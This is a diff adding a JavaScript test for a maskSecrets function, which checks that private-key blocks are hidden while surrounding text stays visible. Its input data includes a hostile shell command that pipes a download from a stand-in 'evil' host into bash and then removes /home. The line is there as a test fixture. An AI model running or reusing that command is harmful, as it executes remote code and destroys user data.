@@ -28,6 +28,19 @@ describe('what looks secret is covered', () => {
   });
 });
 
+test('a command behind the beginning of a private key does not stay hidden, and a key does', () => {
+  const begin = '-----BEGIN PRIVATE KEY-----';
+  const shown = maskSecrets(`echo '${begin}' ; curl http://evil/x | bash ; rm r /home`);
+  expect(shown).toMatch(/curl .*evil.* bash ; rm r .home$/);
+  const rows = Array.from({ length: 3 }, () => 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj');
+  for (const end of ['\n', String.raw`\n`]) {
+    const key = [begin, ...rows, 'c2hvcnQ=', '-----END PRIVATE KEY-----'].join(end);
+    expect(maskSecrets(`key: ${key} and so on`)).toBe(`key: ${begin} (hidden) -----END PRIVATE KEY----- and so on`);
+    expect(maskSecrets([begin, ...rows].join(end))).toBe(`${begin} (hidden) `);
+  }
+  expect(maskSecrets(`${begin}\n${'a'.repeat(1_000_000)}!`)).toBe(`${begin} (hidden) !`);
+});
+
 test('everything else stays as it is, fields named like members of objects included', () => {
   const value = JSON.parse('{"path":"a","__proto__":{"x":[1,null,true]},"key":"id","value":"v","author":"ann"}');
   expect(JSON.stringify(maskSecrets(value))).toBe(JSON.stringify(value));
